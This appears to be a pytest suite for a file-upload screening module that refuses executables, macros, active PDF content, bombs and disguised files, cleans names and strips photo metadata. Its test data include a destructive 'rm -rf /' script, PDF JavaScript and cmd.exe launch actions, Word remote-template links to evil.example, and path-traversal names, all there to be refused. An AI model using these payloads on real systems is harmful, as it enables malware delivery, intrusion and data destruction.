"""What is taken, what is refused and why; what is left of a picture."""

from __future__ import annotations

import gzip
import io
import tarfile
from collections.abc import Callable
from pathlib import Path

import docx
import openpyxl
import pytest
from pikepdf import Array, Dictionary, Name, String
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from forms_backend.attachments import messages
from forms_backend.attachments.kinds import ACCEPTED_EXTENSIONS, FileKind
from forms_backend.attachments.names import clean_name
from forms_backend.attachments.readers.answer import Outcome
from forms_backend.attachments.refusal import RefusedFileError
from tests.forms_backend.attachments import sample_files as samples
from tests.forms_backend.attachments.workbench import (
    Seen,
    look,
    look_here,
    receive,
    workshop,
)

NOT = messages.NOT_ACCEPTED.format(what="{}")
UNKNOWN = messages.UNKNOWN


def taken(name: str, content: bytes) -> Seen:
    seen = looked_at_twice(name, content)
    assert seen.outcome is Outcome.TAKEN, seen
    assert seen.kind is not None
    return seen


def looked_at_twice(name: str, content: bytes) -> Seen:
    """By a worker, and by its readers in this process: they must agree."""
    seen = look(name, content)
    here = look_here(name, content)
    assert (here.outcome, here.kind, here.reason) == (seen.outcome, seen.kind or "", seen.reason)
    return seen


def refusal(name: str, content: bytes) -> str:
    seen = looked_at_twice(name, content)
    assert seen.outcome is Outcome.REFUSED, seen
    return seen.reason


@pytest.mark.parametrize("name", samples.ACCEPTED)
def test_every_kind_is_known_by_its_content(name: str) -> None:
    kind = taken(name, samples.ACCEPTED[name]).kind
    assert kind is not None
    assert f".{name.rpartition('.')[2]}" in kind.extensions


def test_a_sample_for_every_kind() -> None:
    assert {taken(n, c).kind for n, c in samples.ACCEPTED.items()} == set(FileKind)
    assert len(set(ACCEPTED_EXTENSIONS)) == len(ACCEPTED_EXTENSIONS)


def test_documents_that_real_programs_wrote_are_taken(tmp_path: Path) -> None:
    document = docx.Document()
    document.add_paragraph("情况说明")
    document.save(tmp_path / "a.docx")
    book = openpyxl.Workbook()
    book.save(tmp_path / "a.xlsx")
    for name in ("a.docx", "a.xlsx"):
        taken(name, (tmp_path / name).read_bytes())


def tar() -> bytes:
    target = io.BytesIO()
    with tarfile.open(fileobj=target, mode="w") as archive:
        archive.addfile(tarfile.TarInfo("x"))
    return target.getvalue()


OLE_WITH_MACROS = samples.compound_file({"WordDocument": b""}, ("Macros", "VBA"))
PACKED_PROGRAM = samples.compound_file({"\x01Ole10Native": samples.EXECUTABLE})


def content_type(name: str) -> str:
    return f'<Default Extension="bin" ContentType="application/vnd.{name}"/>'


def relation(kind: str, target: str, mode: str = "External") -> bytes:
    return (
        f'<Relationships><Relationship Id="a" Type="http://x/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/></Relationships>'
    ).encode()


AT_ONCE = Dictionary(OpenAction=Dictionary(S=Name.JavaScript, JS="app.alert(1)"))
ENCLOSED = Dictionary(
    Names=Dictionary(
        EmbeddedFiles=Dictionary(
            Names=Array([String("a"), Dictionary(Type=Name.Filespec, F="a.exe", EF=Dictionary())])
        )
    )
)

REFUSED: list[tuple[str, bytes | Callable[[], bytes], str]] = [
    ("a.exe", samples.EXECUTABLE, NOT.format(messages.EXECUTABLE)),
    ("a.pdf", samples.EXECUTABLE, NOT.format(messages.EXECUTABLE)),
    ("a.sh", b"#!/bin/sh\nrm -rf /\n", NOT.format(messages.SCRIPT)),
    ("a.js", b"alert(1)", NOT.format(messages.SCRIPT)),
    ("a.html", b"<html><script>alert(1)</script>", NOT.format(messages.WEB_PAGE)),
    ("a.png", b"<!DOCTYPE html><html></html>", NOT.format(messages.WEB_PAGE)),
    ("a.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>', NOT.format(messages.WEB_PAGE)),
    ("a.zip", samples.zipped({"x.txt": b"x"}), NOT.format(messages.ARCHIVE)),
    ("a.docx", samples.zipped({"x.txt": b"x"}), NOT.format(messages.ARCHIVE)),
    ("a.gz", gzip.compress(b"x"), NOT.format(messages.ARCHIVE)),
    ("a.tar", tar(), NOT.format(messages.ARCHIVE)),
    ("a.rar", b"Rar!\x1a\x07\x00" + bytes(20), NOT.format(messages.ARCHIVE)),
    ("a.7z", b"7z\xbc\xaf\x27\x1c" + bytes(20), NOT.format(messages.ARCHIVE)),
    ("a.txt", "文字".encode(), UNKNOWN),
    ("a.heic", samples.film(b"heic"), messages.HEIC),
    ("a.pdf", samples.office("docx"), messages.MISMATCH.format(
        extension=".pdf", kind="Word 文档", right=".docx")),
    ("照片.jpg", samples.picture("PNG"), messages.MISMATCH.format(
        extension=".jpg", kind="PNG 图片", right=".png")),
    ("无扩展名", samples.pdf(), messages.NO_EXTENSION.format(kind="PDF", right=".pdf")),
    ("a.pdf.exe", samples.pdf(), messages.MISMATCH.format(
        extension=".exe", kind="PDF", right=".pdf")),
    ("a.pdf", samples.pdf()[:-30], messages.BROKEN),
    ("a.pdf", samples.pdf(b"/OpenAction << /S /JavaScript /JS (x) >>"), messages.ACTIVE),
    ("a.pdf", samples.pdf(b"/OpenAction << /S /J#61vaScript /JS (x) >>"), messages.ACTIVE),
    ("a.pdf", samples.pdf(b"/AA << /S /Launch /F (cmd.exe) >>"), messages.ACTIVE),
    ("a.pdf", samples.locked_pdf("secret"), messages.ENCRYPTED),
    ("a.pdf", samples.locked_pdf(""), messages.ENCRYPTED),
    ("a.pdf", samples.pdf(trailer=b"/Encrypt << /Filter /None >>"), messages.ENCRYPTED),
    ("a.pdf", samples.pdf_with_hidden(AT_ONCE), messages.ACTIVE),
    ("a.pdf", samples.pdf_with_hidden(Dictionary(Names=Dictionary(JavaScript=Array()))),
     messages.ACTIVE),
    ("a.pdf", samples.pdf_with_hidden(Dictionary(OpenAction=Dictionary(S=Name.URI, URI="http://x/"))),
     messages.ACTIVE),
    ("a.pdf", samples.pdf_with_hidden(Dictionary(AA=Dictionary(WC=Dictionary(S=Name.GoToR)))),
     messages.ACTIVE),
    ("a.pdf", samples.pdf_with_hidden(Dictionary(AcroForm=Dictionary(XFA=Array())))
     , messages.ACTIVE),
    ("a.pdf", samples.pdf_with_hidden(ENCLOSED), messages.ENCLOSES),
    ("a.pdf", samples.pdf(objects=(b"<< /S /J#61vaScript /J#53 (x) >>",)), messages.ACTIVE),
    ("a.pdf", samples.pdf(b"/OpenAction 4 0 R", objects=(
        b"<< /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>",
        b"<< /S /GoTo /Next [4 0 R 6 0 R] >>", b"<< /S /SubmitForm /F (http://x/) >>")),
     messages.ACTIVE),
    ("a.docx", samples.office("docx", {"word/vbaProject.bin": b"x"}), messages.MACROS),
    ("a.xlsx", samples.office("xlsx", {"xl/macrosheets/sheet1.xml": b"x"}), messages.MACROS),
    ("a.docx", samples.office("docx", types=content_type("ms-word.document.macroEnabled.main+xml")),
     messages.MACROS),
    ("a.docx", samples.office("docx", types=content_type("ms-office.vbaProject")), messages.MACROS),
    ("a.docx", samples.office("docx", types=content_type("ms-office.activeX")), messages.ACTIVE),
    ("a.docx", samples.office("docx", {"word/embeddings/x.exe": b"MZ"}), messages.ACTIVE),
    ("a.docx", samples.office("docx", {"word/activeX/activeX1.bin": b"x"}), messages.ACTIVE),
    ("a.docx", samples.office("docx", {"word/embeddings/o.bin": PACKED_PROGRAM}), messages.ACTIVE),
    ("a.docx", samples.office("docx", {"word/embeddings/o.bin": OLE_WITH_MACROS}), messages.MACROS),
    *(("a.docx", samples.office("docx", {"word/_rels/settings.xml.rels": relation(kind, target)}),
       messages.ACTIVE)
      for kind, target in (
          ("attachedTemplate", "http://evil.example/t.dotm"),
          ("attachedTemplate", "file://evil.example/share/t.dotm"),
          ("attachedTemplate", "file:////evil.example/share/t.dotm"),
          ("attachedTemplate", "&#92;&#92;evil.example\\share\\t.dotm"),
          ("attachedTemplate", "h&#116;tps://evil.example/t.dotm"),
          ("oleObject", "HTTP://evil.example/x.hta"),
          ("frame", "mhtml:http://evil.example/x"),
      )),
    ("a.docx", samples.office("docx", {"word/_rels/document.xml.rels":
        relation("vbaProject", "renamed.bin", "Internal")}), messages.MACROS),
    ("a.docx", samples.office("docx", {"word/_rels/document.xml.rels": b"<Relationships>"}),
     messages.BROKEN),
    ("a.docx", samples.office("docx", {"word/_rels/document.xml.rels":
        b"<Relationships>" + b"<x/>" * 20_000 + b"</Relationships>"}), messages.TOO_MANY_RELATIONS),
    ("a.docx", samples.office("docx", {"word/styles.xml":
        b"<!DOCTYPE x [<!ENTITY a 'b'>]><x>&a;</x>"}), messages.BROKEN),
    ("a.docx", samples.office("docx", {"word/styles.xml": b"<a>" * 300 + b"</a>" * 300}),
     messages.TOO_NESTED),
    ("a.docx", samples.office("docx", {"word/embeddings/a.xlsx":
        samples.office("xlsx", {"xl/vbaProject.bin": b"x"})}), messages.MACROS),
    ("a.docx", samples.office("docx", {"word/embeddings/a.bin": samples.zipped({"a": b"x"})}),
     NOT.format(messages.ARCHIVE)),
    ("a.docx", samples.office("docx", {"../../etc/passwd": b"x"}), messages.BROKEN),
    ("a.docx", samples.encrypted_zip(), messages.ENCRYPTED),
    ("a.docx", samples.zip_bomb, messages.BOMB),
    ("a.docx", samples.overlapping_zip(), messages.BOMB),
    ("a.docx", samples.office("docx")[:-40], messages.BROKEN),
    ("a.docx", samples.with_wrong_checksum(), messages.BROKEN),
    ("a.doc", OLE_WITH_MACROS, messages.MACROS),
    ("a.doc", samples.compound_file({"WordDocument": "_VBA_PROJECT".encode("utf-16-le")}),
     messages.MACROS),
    ("a.xls", samples.compound_file({"Workbook": samples.workbook(1)}), messages.MACROS),
    ("a.ppt", samples.compound_file(
        {"PowerPoint Document": samples.presentation(macros=True)}), messages.MACROS),
    ("a.doc", samples.compound_file({"EncryptedPackage": b"x"}), messages.ENCRYPTED),
    ("a.msi", samples.compound_file({"SomethingElse": b"x"}), UNKNOWN),
    ("a.doc", samples.compound_file({"WordDocument": b""})[:700], messages.BROKEN),
    ("a.png", samples.png_of(30_000, 30_000), messages.TOO_MANY_PIXELS.format(million=50)),
    ("a.png", samples.picture("PNG")[:60], messages.BROKEN),
    ("a.jpg", samples.picture("JPEG")[:300], messages.BROKEN),
    ("a.mp4", samples.film(b"isom")[:-10], messages.BROKEN),
    ("a.mp4", samples.box(b"ftyp", b"isom" * 2) + samples.box(b"free", b"x"), messages.BROKEN),
    ("a.wav", samples.wav()[:20], messages.BROKEN),
    ("a.mp3", b"ID3" + b"<script>alert(1)</script>" * 20, UNKNOWN),
    ("a.amr", b"#!AMR\n<script>", messages.BROKEN),
]  # fmt: skip


@pytest.mark.parametrize(
    ("name", "content", "said"),
    REFUSED,
    ids=[f"{n}-{name}" for n, (name, *_) in enumerate(REFUSED)],
)
def test_what_is_refused_is_said_plainly(
    name: str, content: bytes | Callable[[], bytes], said: str
) -> None:
    assert refusal(name, content() if callable(content) else content) == said


@pytest.mark.parametrize(
    "content",
    [
        samples.pdf(b"/OpenAction [3 0 R /Fit]"),
        samples.pdf(b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 4 0 R >>",
                    objects=(b"<< /S /Named /N /NextPage /Next 4 0 R >>",)),
        samples.pdf(objects=(b"<< /S /URI /URI (http://x/) >>", b"(how to avoid /JavaScriptX /JS)")),
        samples.pdf_with_hidden(Dictionary(Names=Dictionary(EmbeddedFiles=Dictionary(Names=Array())))),
    ],
    ids=["place", "steps", "link", "nothing-enclosed"],
)  # fmt: skip
def test_a_document_that_only_shows_something_is_taken(content: bytes) -> None:
    assert taken("a.pdf", content).kind is FileKind.PDF


LINKED = {
    "word/_rels/document.xml.rels": relation("hyperlink", "http://x.example/"),
    "word/_rels/settings.xml.rels": relation(
        "attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"
    ),
    "word/_rels/header.xml.rels": relation("attachedTemplate", "C:\\Users\\a\\Normal.dotm"),
    "word/_rels/footer.xml.rels": relation("oleObject", "embeddings/oleObject1.bin", "Internal"),
}


@pytest.mark.parametrize(
    "parts",
    [
        LINKED,
        {"customXml/item1.xml": '<?xml version="1.0" encoding="GBK"?><a>法</a>'.encode("gbk")},
        {"customXml/item1.xml": '<?xml version="1.0" encoding="UTF-16"?><a>法</a>'.encode("utf-16")},
        {"word/embeddings/a.xlsx": samples.office("xlsx", {"xl/embeddings/b.docx":
            samples.office("docx")})},
        {"word/embeddings/a.bin": samples.compound_file({"Workbook": samples.workbook()})},
    ],
    ids=["links", "gbk", "utf-16", "workbook", "old-workbook"],
)  # fmt: skip
def test_what_documents_may_hold(parts: dict[str, bytes]) -> None:
    assert taken("a.docx", samples.office("docx", parts)).kind is FileKind.DOCX


def test_the_main_part_may_have_any_name() -> None:
    """Word on the web calls it document2.xml."""
    content = samples.office("docx").replace(b"word/document.xml", b"word/docxment.xml")
    parts = {
        "[Content_Types].xml": b'<Types><Override PartName="/word/document2.xml" ContentType="'
        b'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
        "word/document2.xml": b"<x/>",
    }
    assert taken("a.docx", samples.zipped(parts)).kind is FileKind.DOCX
    assert refusal("a.docx", content) == UNKNOWN


def test_a_word_document_inside_a_workbook_does_not_make_it_one() -> None:
    content = samples.compound_file({"Workbook": samples.workbook()}, ("MBD0001",))
    inner = "WordDocument".encode("utf-16-le") + b"\0\0"
    place = content.index("MBD0001".encode("utf-16-le")) // 128 * 128
    spare = place + 128  # an entry that the tree below the root does not reach
    changed = (
        content[:spare] + inner.ljust(64, b"\0") + len(inner).to_bytes(2, "little") + b"\x02\x01"
        + content[spare + 68 :]
    )  # fmt: skip
    assert taken("a.xls", changed).kind is FileKind.XLS


@pytest.mark.parametrize(
    ("content", "said"),
    [(b"", messages.EMPTY),
     (samples.pdf() + bytes(1024 * 1024), messages.TOO_LARGE.format(megabytes=1))],
    ids=["empty", "large"],
)  # fmt: skip
def test_what_nobody_needs_to_look_at_is_refused_at_once(
    tmp_path: Path, content: bytes, said: str
) -> None:
    with pytest.raises(RefusedFileError) as caught:
        receive(workshop(tmp_path), "a.pdf", content, max_mb=1)
    assert str(caught.value) == said


@pytest.mark.parametrize(
    ("sent", "clean"),
    [
        ("合同.pdf", "合同.pdf"),
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\张三\\发票.pdf", "发票.pdf"),
        ("a\x00b\r\n.pdf", "ab.pdf"),
        ("gpj.\u202eexe.pdf", "gpj.exe.pdf"),
        ("  .hidden.pdf ", "hidden.pdf"),
        ('<b>"x"?.pdf', "_b__x__.pdf"),
        ("con.pdf", "_con.pdf"),
        ("..", "未命名"),
        ("", "未命名"),
        (".pdf", "pdf"),
        ("字" * 300 + ".docx", "字" * 95 + ".docx"),
    ],
)
def test_names_are_cleaned(sent: str, clean: str) -> None:
    assert clean_name(sent) == clean


@pytest.mark.parametrize("orientation", range(1, 9))
def test_a_photo_stands_upright_and_tells_nothing_but_the_picture(orientation: int) -> None:
    original = samples.photo_with_place(orientation)
    cleaned = taken("a.jpg", original).written
    assert b"SECRET" not in cleaned
    with Image.open(io.BytesIO(cleaned)) as image, Image.open(io.BytesIO(original)) as before:
        assert dict(image.getexif()) == {}
        turned = orientation >= 5
        assert image.size == (before.size[::-1] if turned else before.size)
        red = {1: "left", 2: "right", 3: "right", 4: "left",
               5: "top", 6: "top", 7: "bottom", 8: "bottom"}[orientation]  # fmt: skip
        width, height = image.size
        place = {"left": (2, height // 2), "right": (width - 3, height // 2),
                 "top": (width // 2, 2), "bottom": (width // 2, height - 3)}[red]  # fmt: skip
        r, g, _b = image.convert("RGB").getpixel(place)
        assert (r > 200, g < 60) == (True, True)


def test_a_picture_that_stands_upright_loses_no_quality() -> None:
    original = samples.photo_with_place(1, size=(64, 64))
    cleaned = taken("a.jpg", original).written
    with Image.open(io.BytesIO(original)) as before, Image.open(io.BytesIO(cleaned)) as after:
        assert before.quantization == after.quantization
        pairs = zip(before.tobytes(), after.tobytes(), strict=True)
        differences = [abs(a - b) for a, b in pairs]
    assert sum(differences) / len(differences) < 1


def test_the_same_picture_gives_the_same_bytes() -> None:
    for name in ("a.jpeg", "a.png", "a.gif", "a.webp"):
        content = samples.ACCEPTED[name]
        assert taken(name, content).written == taken(name, content).written


def test_a_moving_picture_still_moves() -> None:
    cleaned = taken("a.gif", samples.moving_gif()).written
    assert b"SECRET" not in cleaned
    with Image.open(io.BytesIO(cleaned)) as image:
        assert (image.n_frames, image.info["duration"]) == (3, 90)


def test_a_png_keeps_transparency_and_loses_its_texts() -> None:
    info = PngInfo()
    info.add_text("Author", "SECRET")
    target = io.BytesIO()
    Image.new("RGBA", (4, 4), (1, 2, 3, 77)).save(target, format="PNG", pnginfo=info)
    cleaned = taken("a.png", target.getvalue()).written
    assert b"SECRET" not in cleaned
    with Image.open(io.BytesIO(cleaned)) as image:
        assert image.getpixel((0, 0)) == (1, 2, 3, 77)
